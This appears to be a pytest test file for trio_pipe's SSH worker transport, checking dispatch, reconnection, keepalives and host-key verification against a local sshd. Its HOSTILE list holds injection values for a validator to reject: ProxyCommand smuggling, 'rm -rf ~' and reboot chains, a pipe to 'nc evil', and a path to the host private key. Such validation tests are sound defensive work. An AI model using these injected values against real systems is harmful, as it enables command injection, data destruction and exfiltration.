"""SSH workers against a real OpenSSH server on 127.0.0.1, started by the fixture below
with throwaway host and client keys (asyncssh under Trio, through the bridge).

Skipped where sshd (or the ``ssh`` extra) is missing, unless TRIO_PIPE_REQUIRE_SSH=1 (as
in CI, whose .ci/run installs OpenSSH), in which case that is a failure.
"""

from __future__ import annotations

import getpass
import importlib.util
import logging
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import attrs
import pytest
import trio
from helpers import ROOT, child_pids, free_port
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import trio_pipe
from trio_pipe import (
    ErrorCode,
    Task,
    TaskEventKind,
    TaskStatus,
    WorkerEvent,
    WorkerEventKind,
)
from trio_pipe._validation import InvalidSpec
from trio_pipe.dispatch import RestartPolicy

pytestmark = pytest.mark.slow

SSHD = "/usr/sbin/sshd"
FAST_RESTART = RestartPolicy(backoff=0.05, backoff_max=0.1)
PLAIN = [sys.executable, str(ROOT / "tests" / "stdio_workers" / "plain.py")]
ENVIRON = [sys.executable, str(ROOT / "tests" / "stdio_workers" / "environ.py")]
SDK_WORKER = [
    sys.executable, "-m", "trio_pipe", "--log-level", "WARNING",
    "worker", "--stdio", "--handlers", "tests.worker_handlers:HANDLERS",
]  # fmt: skip


@attrs.frozen
class SshServer:
    """The running sshd, and what a client needs to reach it."""

    port: int
    listener: int  # the pid of sshd's listening process
    user: str
    known_hosts: Path  # the server's real host key
    wrong_known_hosts: Path  # another key for [127.0.0.1]:port
    client_key: Path
    log: Path

    def options(self, **overrides: Any) -> dict[str, Any]:
        """spawn_ssh keyword arguments for this server."""
        options: dict[str, Any] = {
            "user": self.user,
            "port": self.port,
            "known_hosts": self.known_hosts,
            "client_keys": [self.client_key],
        }
        return options | overrides

    def log_count(self, pattern: str) -> int:
        """How many lines of sshd's log match *pattern* (LogLevel VERBOSE: one
        ``Connection from`` per TCP connection, ``Accepted publickey`` per login)."""
        return len(re.findall(pattern, self.log.read_text(errors="replace")))


def _missing() -> str | None:
    if not os.access(SSHD, os.X_OK):
        return f"{SSHD} is not installed (apt-get install openssh-server)"
    if shutil.which("ssh-keygen") is None:
        return "ssh-keygen is not installed (apt-get install openssh-client)"
    for module in ("asyncssh", "trio_asyncio"):
        if importlib.util.find_spec(module) is None:
            return f"{module} is not installed (nox -s tests installs it)"
    return None


def _keygen(path: Path) -> str:
    """Make an ed25519 key pair at *path*; return the public key's "type base64"."""
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", path.name, "-f", str(path)],
        check=True,
        timeout=30,
    )
    kind, key, *_ = path.with_suffix(".pub").read_text().split()
    return f"{kind} {key}"


@pytest.fixture(scope="module")
def sshd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SshServer]:
    missing = _missing()
    if missing is not None:
        if os.environ.get("TRIO_PIPE_REQUIRE_SSH") == "1":
            pytest.fail(f"TRIO_PIPE_REQUIRE_SSH=1 but {missing}")
        pytest.skip(missing)
    directory = tmp_path_factory.mktemp("sshd")
    host_key = _keygen(directory / "host_key")
    other_key = _keygen(directory / "other_host_key")
    _keygen(directory / "client_key")
    shutil.copy(directory / "client_key.pub", directory / "authorized_keys")
    port = free_port()
    (directory / "known_hosts").write_text(f"[127.0.0.1]:{port} {host_key}\n")
    (directory / "wrong_known_hosts").write_text(f"[127.0.0.1]:{port} {other_key}\n")
    config = directory / "sshd_config"
    config.write_text(
        f"Port {port}\n"
        "ListenAddress 127.0.0.1\n"
        f"HostKey {directory / 'host_key'}\n"
        f"PidFile {directory / 'sshd.pid'}\n"
        f"AuthorizedKeysFile {directory / 'authorized_keys'}\n"
        "StrictModes no\n"  # the keys live in a temporary directory
        "UsePAM no\n"
        "PasswordAuthentication no\n"
        "KbdInteractiveAuthentication no\n"
        "PermitRootLogin prohibit-password\n"
        "LogLevel VERBOSE\n"
    )
    Path("/run/sshd").mkdir(parents=True, exist_ok=True)  # its privilege separation dir
    log = directory / "sshd.log"
    with log.open("wb") as log_file:
        server = subprocess.Popen(
            [SSHD, "-D", "-e", "-f", str(config)],
            stdin=subprocess.DEVNULL,
            stdout=log_file,
            stderr=subprocess.STDOUT,
        )
    try:
        # Poll until sshd accepts connections (another process's state), for at most 10 s.
        deadline = time.monotonic() + 10
        while True:
            if server.poll() is not None:
                pytest.fail(f"sshd exited ({server.returncode}): {log.read_text()}")
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                if time.monotonic() > deadline:
                    pytest.fail(f"sshd does not accept connections: {log.read_text()}")
                time.sleep(0.05)
        yield SshServer(
            port=port,
            listener=server.pid,
            user=getpass.getuser(),
            known_hosts=directory / "known_hosts",
            wrong_known_hosts=directory / "wrong_known_hosts",
            client_key=directory / "client_key",
            log=log,
        )
    finally:
        server.terminate()
        try:
            server.wait(timeout=10)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait(timeout=10)


# -- process accounting -------------------------------------------------------------------


def _living(pid: int) -> tuple[int, str] | None:
    """(ppid, state) of *pid* if it lives (not a zombie)."""
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return None
    return None if fields[0] == "Z" else (int(fields[1]), fields[0])


def _sessions(server: SshServer) -> list[int]:
    """sshd's per-connection processes: the living children of its listener."""
    pids = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        status = _living(int(stat.parent.name))
        if status is not None and status[0] == server.listener:
            pids.append(int(stat.parent.name))
    return pids


def _marked(marker: str) -> list[int]:
    """Living processes whose environment holds TRIO_PIPE_SSH_TEST=<marker>: the
    remote worker processes of one test, wherever they were reparented."""
    needle = f"TRIO_PIPE_SSH_TEST={marker}".encode()
    pids = []
    for environ in Path("/proc").glob("[0-9]*/environ"):
        try:
            found = needle in environ.read_bytes().split(b"\0")
        except OSError:
            continue
        if found and _living(int(environ.parent.name)) is not None:
            pids.append(int(environ.parent.name))
    return pids


def _local_children(server: SshServer) -> list[int]:
    """This process's living children other than the sshd of the fixture (and the
    tests' PostgreSQL server)."""
    return [pid for pid in child_pids() if pid != server.listener]


async def _eventually(predicate: Callable[[], bool], seconds: float = 15) -> None:
    """Wait until *predicate* (about other processes' state) holds, for at most
    *seconds*, polling: there is nothing to wait on for another process."""
    with trio.fail_after(seconds):
        while not predicate():  # noqa: ASYNC110  (another process's state)
            await trio.sleep(0.05)


async def _nothing_left(server: SshServer, marker: str | None = None) -> None:
    """No SSH session, no remote worker process of *marker*, no local child left."""
    await _eventually(lambda: _sessions(server) == [])
    if marker is not None:
        await _eventually(lambda: _marked(marker) == [])
    assert _local_children(server) == []


# -- the cases ----------------------------------------------------------------------------


async def test_a_remote_python_worker_completes_tasks(
    sshd: SshServer, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    marker = uuid.uuid4().hex
    env = {"PYTHONPATH": str(ROOT), "TRIO_PIPE_SSH_TEST": marker}
    async with trio_pipe.open_dispatcher(port=None) as d:
        worker_id = await d.spawn_ssh(
            "127.0.0.1",
            SDK_WORKER,
            ["echo", "print"],
            worker_id="remote",
            env=env,
            **sshd.options(),
        )
        assert worker_id == "remote"
        with trio.fail_after(30):
            values = [await d.run(Task.new("echo", {"n": i})) for i in range(10)]
            printed = await d.run(Task.new("print", "printed on the remote side"))
        assert values == [{"n": i} for i in range(10)]
        assert printed == "printed on the remote side"
        (info,) = d.workers()
        assert info.transport == "ssh"
        assert info.peer == f"ssh {sshd.user}@127.0.0.1:{sshd.port}"
        assert len(_sessions(sshd)) == 1
        assert len(_marked(marker)) == 1  # the remote worker runs, in its environment
        assert _local_children(sshd) == []  # and not as a local process
    await _nothing_left(sshd, marker)
    # Its stderr (where print() goes in a stdio worker) is logged under its id.
    assert any(
        r.name == "trio_pipe.worker.remote" and "printed on the remote side" in r.message
        for r in caplog.records
    )


async def test_two_workers_share_one_connection_closed_after_the_last(
    sshd: SshServer,
) -> None:
    marker = uuid.uuid4().hex
    env = {"TRIO_PIPE_SSH_TEST": marker}
    connections = sshd.log_count("Connection from")
    async with trio_pipe.open_dispatcher(port=None) as d:
        for name in ("one", "two"):
            await d.spawn_ssh(
                "127.0.0.1", PLAIN, ["echo"], worker_id=name, env=env, **sshd.options()
            )
        with trio.fail_after(30):
            one = await d.dispatch_to("one", Task.new("echo", 1))
            two = await d.dispatch_to("two", Task.new("echo", 2))
            pids = {(await one.value())["pid"], (await two.value())["pid"]}
        assert len(pids) == 2  # two remote processes...
        assert len(_sessions(sshd)) == 1  # ...on one SSH connection
        assert sshd.log_count("Connection from") == connections + 1
        d.remove_worker("one")
        await _eventually(lambda: len(_marked(marker)) == 1)
        assert len(_sessions(sshd)) == 1  # still used by "two"
        with trio.fail_after(30):
            assert (await d.run(Task.new("echo", 3)))["echo"] == 3
        d.remove_worker("two")
        await _eventually(lambda: _sessions(sshd) == [])  # the last one closed it
        assert d.workers() == []
    await _nothing_left(sshd, marker)
    assert sshd.log_count("Connection from") == connections + 1


async def test_a_killed_ssh_session_retries_the_task_and_the_worker_reconnects(
    sshd: SshServer,
) -> None:
    marker = uuid.uuid4().hex
    env = {"PYTHONPATH": str(ROOT), "TRIO_PIPE_SSH_TEST": marker}
    async with trio_pipe.open_dispatcher(port=None, retry_backoff=0.01) as d:
        async with d.events() as events:
            await d.spawn_ssh(
                "127.0.0.1",
                SDK_WORKER,
                ["sleep", "echo"],
                worker_id="victim",
                env=env,
                restart=FAST_RESTART,
                keepalive_interval=1.0,
                **sshd.options(),
            )
            with trio.fail_after(60):
                await d.run(Task.new("echo", "warm up"))
                (session,) = _sessions(sshd)
                handle = await d.submit(Task.new("sleep", {"seconds": 1.0}))
                kinds = []
                async for event in events:
                    if isinstance(event, WorkerEvent):
                        kinds.append(event.kind)
                    if getattr(event, "kind", None) is TaskEventKind.DISPATCHED:
                        break
                os.kill(session, signal.SIGKILL)  # the link dies mid-task
                result = await handle.result()
                assert await d.run(Task.new("echo", "after")) == "after"
            (new_session,) = _sessions(sshd)
            events.close()
            kinds += [e.kind async for e in events if isinstance(e, WorkerEvent)]
    assert result.status is TaskStatus.COMPLETED  # on the reconnected worker
    assert handle.attempts[0].error is not None
    assert handle.attempts[0].error.code == ErrorCode.WORKER_DISCONNECTED
    assert new_session != session
    assert WorkerEventKind.RESTARTING in kinds
    assert kinds.count(WorkerEventKind.REGISTERED) == 2
    await _nothing_left(sshd, marker)


async def test_keepalives_detect_a_frozen_link(sshd: SshServer) -> None:
    """A stopped sshd answers nothing but keeps the TCP connection open: only the
    keepalives can tell that the link is dead."""
    marker = uuid.uuid4().hex
    env = {"TRIO_PIPE_SSH_TEST": marker}
    frozen: int | None = None
    try:
        async with trio_pipe.open_dispatcher(port=None, retry_backoff=0.01) as d:
            await d.spawn_ssh(
                "127.0.0.1",
                PLAIN,
                ["echo"],
                worker_id="frozen",
                env=env,
                restart=FAST_RESTART,
                **sshd.options(keepalive_interval=0.3, keepalive_count_max=2),
            )
            with trio.fail_after(30):
                before = (await d.run(Task.new("echo", 1)))["pid"]
                (frozen,) = _sessions(sshd)
                os.kill(frozen, signal.SIGSTOP)
                handle = await d.submit(Task.new("echo", "hang", max_retries=0))
                result = await handle.result()  # lost with the link, at once
                after = (await d.run(Task.new("echo", 2)))["pid"]
            assert result.error is not None
            assert result.error.code == ErrorCode.WORKER_DISCONNECTED
            assert after != before
            sessions = _sessions(sshd)
            assert frozen in sessions and len(sessions) == 2  # a new one beside it
    finally:
        if frozen is not None:
            os.kill(frozen, signal.SIGKILL)  # its worker then sees end of input
    await _nothing_left(sshd, marker)


async def test_a_wrong_or_unknown_host_key_is_refused_before_any_login(
    sshd: SshServer, tmp_path: Path
) -> None:
    empty = tmp_path / "empty_known_hosts"
    empty.write_text("")
    logins = sshd.log_count("Accepted publickey")
    async with trio_pipe.open_dispatcher(port=None) as d:
        for known_hosts in (sshd.wrong_known_hosts, empty):
            with pytest.raises(trio_pipe.HostKeyError, match="host key"):
                await d.spawn_ssh(
                    "127.0.0.1", PLAIN, ["echo"], **sshd.options(known_hosts=known_hosts)
                )
            assert d.workers() == []
        await _eventually(lambda: _sessions(sshd) == [])
    assert sshd.log_count("Accepted publickey") == logins  # nobody logged in
    await _nothing_left(sshd)


async def test_known_hosts_none_is_refused_and_the_insecure_sentinel_is_explicit(
    sshd: SshServer,
) -> None:
    connections = sshd.log_count("Connection from")
    async with trio_pipe.open_dispatcher(port=None) as d:
        with pytest.raises(InvalidSpec, match="known_hosts is required"):
            await d.spawn_ssh(
                "127.0.0.1", PLAIN, ["echo"], **sshd.options(known_hosts=None)
            )
        assert sshd.log_count("Connection from") == connections
        # The one test of the insecure option itself: it connects without checking.
        insecure = sshd.options(known_hosts=trio_pipe.INSECURE_ACCEPT_ANY_HOST_KEY)
        await d.spawn_ssh("127.0.0.1", PLAIN, ["echo"], **insecure)
        with trio.fail_after(30):
            assert (await d.run(Task.new("echo", "unchecked")))["echo"] == "unchecked"
    await _nothing_left(sshd)


async def test_env_values_reach_the_remote_process_quoted(sshd: SshServer) -> None:
    value = 'two  words, it\'s "quoted" \\ * ~ # ?'
    async with trio_pipe.open_dispatcher(port=None) as d:
        await d.spawn_ssh(
            "127.0.0.1", ENVIRON, ["env"], env={"GREETING": value}, **sshd.options()
        )
        with trio.fail_after(30):
            answer = await d.run(Task.new("env", "GREETING"))
    assert answer["value"] == value
    await _nothing_left(sshd)


async def test_an_unreachable_host_is_an_error_at_once(sshd: SshServer) -> None:
    async with trio_pipe.open_dispatcher(port=None) as d:
        with pytest.raises(trio_pipe.SshError, match=r"127\.0\.0\.1"):
            await d.spawn_ssh(
                "127.0.0.1", PLAIN, ["echo"], **sshd.options(port=free_port())
            )
        assert d.workers() == []


async def test_a_missing_key_or_known_hosts_file_is_an_ssh_error(
    sshd: SshServer, tmp_path: Path
) -> None:
    async with trio_pipe.open_dispatcher(port=None) as d:
        for options in (
            sshd.options(client_keys=[tmp_path / "no_such_key"]),
            sshd.options(known_hosts=tmp_path / "no_such_known_hosts"),
            sshd.options(client_keys=[sshd.known_hosts]),  # not a key
        ):
            with pytest.raises(trio_pipe.SshError):
                await d.spawn_ssh("127.0.0.1", PLAIN, ["echo"], **options)
        with pytest.raises(InvalidSpec, match="at least one"):
            await d.spawn_ssh("127.0.0.1", PLAIN, ["echo"], **sshd.options(client_keys=[]))
        assert d.workers() == []
    await _nothing_left(sshd)


async def test_cancelling_the_dispatcher_abruptly_leaves_no_session(
    sshd: SshServer,
) -> None:
    marker = uuid.uuid4().hex
    env = {"TRIO_PIPE_SSH_TEST": marker}
    with trio.move_on_after(20) as scope:
        async with trio_pipe.open_dispatcher(port=None) as d:
            for name in ("a", "b"):
                await d.spawn_ssh(
                    "127.0.0.1", PLAIN, ["echo"], worker_id=name, env=env, **sshd.options()
                )
            await d.run(Task.new("echo", "busy"))
            await _eventually(lambda: len(_marked(marker)) == 2)
            scope.cancel()
            await trio.sleep_forever()
    assert scope.cancelled_caught
    await _nothing_left(sshd, marker)


def test_the_example_runs_and_prints_what_it_promises(sshd: SshServer) -> None:
    example = ROOT / "docs" / "examples" / "ssh" / "ssh_workers.py"
    connections = sshd.log_count("Connection from")
    arguments = ["127.0.0.1", str(sshd.port), sshd.user, str(sshd.known_hosts)]
    done = subprocess.run(
        [sys.executable, str(example), *arguments, str(sshd.client_key)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=ROOT,
    )
    assert done.returncode == 0, done.stderr
    source = example.read_text()
    promised = re.findall(r"print\(.*\)\s+# (.+)", source)
    assert len(promised) == 3
    for line in promised:
        assert line.strip() in done.stdout, (line, done.stdout)
    assert sshd.log_count("Connection from") == connections + 1  # both workers, one


HOSTILE: list[tuple[str, dict[str, Any]]] = [
    ("host option", {"host": "-oProxyCommand=touch /tmp/pwned"}),
    ("host command", {"host": "127.0.0.1;reboot"}),
    ("host newline", {"host": "127.0.0.1\nevil"}),
    ("user option", {"user": "-oProxyCommand=touch /tmp/pwned"}),
    ("user command", {"user": "root$(reboot)"}),
    ("command substitution", {"command": "python3 w.py $(reboot)"}),
    ("command backtick", {"command": "python3 `id`"}),
    ("command chain", {"command": "python3 w.py; rm -rf ~"}),
    ("command pipe", {"command": "python3 w.py | nc evil 1"}),
    ("command newline", {"command": "python3 w.py\nreboot"}),
    ("command quote", {"command": "python3 'w.py"}),
    ("command argument", {"command": ["python3", "-c", "import os; os.system('id')"]}),
    ("command empty", {"command": "  "}),
    ("env key", {"env": {"A;reboot": "x"}}),
    ("env value", {"env": {"A": "$(reboot)"}}),
    ("env newline", {"env": {"A": "x\nreboot"}}),
    ("client key path", {"client_keys": ["../../etc/ssh/ssh_host_ed25519_key"]}),
    ("known hosts path", {"known_hosts": "../known_hosts"}),
    ("port", {"port": 0}),
    ("port type", {"port": "22"}),
    ("worker id", {"worker_id": "-rf"}),
]


@pytest.mark.parametrize("bad", [bad for _, bad in HOSTILE], ids=[i for i, _ in HOSTILE])
async def test_hostile_values_are_refused_before_any_connection(
    sshd: SshServer, bad: dict[str, Any]
) -> None:
    connections = sshd.log_count("Connection from")
    arguments: dict[str, Any] = {"host": "127.0.0.1", "command": PLAIN, "tasks": ["echo"]}
    arguments |= sshd.options()
    arguments |= bad
    async with trio_pipe.open_dispatcher(port=None) as d:
        with pytest.raises(InvalidSpec):
            await d.spawn_ssh(**arguments)
        assert d.workers() == []
    assert sshd.log_count("Connection from") == connections
    assert _sessions(sshd) == []


# -- without a server ---------------------------------------------------------------------


METACHARACTERS = "`$(){};|&<>\n\r\0"
hostile = st.text(min_size=1, max_size=40).filter(
    lambda s: any(c in s for c in METACHARACTERS)
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(field=st.sampled_from(["host", "user", "command", "argument", "env"]), value=hostile)
async def test_a_hostile_ssh_value_is_refused_before_any_connection(
    field: str, value: str
) -> None:
    """Nothing listens on the port: a value that got past validation would surface as
    an ImportError or SshError (a connection attempt), not as InvalidSpec."""
    options: dict[str, Any] = {
        "host": "127.0.0.1",
        "command": "python3 worker.py",
        "user": "worker",
        "port": 9,
        "known_hosts": "known_hosts",
        "client_keys": ["id_ed25519"],
    }
    if field == "argument":
        options["command"] = ["python3", value]
    elif field == "env":
        options["env"] = {"KEY": value}
    else:
        options[field] = value
    async with trio_pipe.open_dispatcher(port=None) as d:
        with pytest.raises(InvalidSpec):
            await d.spawn_ssh(tasks=["x"], **options)
        assert d.workers() == []


def test_only_the_bridge_imports_asyncio() -> None:
    pattern = re.compile(r"^\s*(?:import|from)\s+(asyncio|asyncssh|trio_asyncio)\b", re.M)
    importers = sorted(
        str(path.relative_to(ROOT))
        for path in (ROOT / "trio_pipe").rglob("*.py")
        if pattern.search(path.read_text())
    )
    assert importers == ["trio_pipe/transports/_ssh.py"]


def test_trio_pipe_works_without_the_ssh_extra() -> None:
    """In a fresh interpreter where asyncssh cannot be imported: trio_pipe imports, and
    spawn_ssh says which extra to install."""
    program = """
import sys
sys.modules["asyncssh"] = None  # as if not installed
import trio, trio_pipe
from trio_pipe import *
import trio_pipe.dispatch, trio_pipe.transports
print("imported:", [m for m in ("asyncio", "trio_asyncio") if m in sys.modules])

async def main():
    async with trio_pipe.open_dispatcher(port=None) as d:
        try:
            await d.spawn_ssh("example.org", "worker", ["x"], user="u",
                              known_hosts="known_hosts", client_keys=["key"])
        except ImportError as exc:
            print("ImportError:", exc)

trio.run(main)
"""
    done = subprocess.run(
        [sys.executable, "-c", program],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=ROOT,
    )
    assert done.returncode == 0, done.stderr
    assert "imported: []" in done.stdout
    assert "ImportError:" in done.stdout
    assert "pip install 'trio-pipe[ssh]'" in done.stdout


def test_the_remote_command_quotes_env_values_and_arguments() -> None:
    from trio_pipe.transports._spawn import remote_command as _remote_command

    assert _remote_command("python3 w.py", None) == "python3 w.py"
    assert _remote_command(["/opt/my worker/w", "--x"], None) == "'/opt/my worker/w' --x"
    assert (
        _remote_command("w", {"A": "two words", "B": "it's"})
        == "env A='two words' B='it'\"'\"'s' w"
    )
